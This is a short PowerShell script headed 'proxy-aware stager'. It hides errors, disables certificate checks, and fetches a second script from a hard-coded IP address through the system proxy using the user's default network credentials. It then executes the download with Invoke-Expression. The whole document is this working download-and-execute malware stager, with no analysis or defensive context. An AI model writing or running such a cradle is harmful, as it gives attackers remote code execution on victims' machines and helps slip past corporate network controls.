# proxy-aware stager
$ErrorActionPreference = 'SilentlyContinue'
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
$url = 'http://185.220.101.47/a.ps1'
[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }
$req = [System.Net.WebRequest]::Create($url)
$req.Proxy = [System.Net.WebRequest]::DefaultWebProxy
$req.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials
$code = (New-Object System.IO.StreamReader($req.GetResponse().GetResponseStream())).ReadToEnd()
Invoke-Expression $code
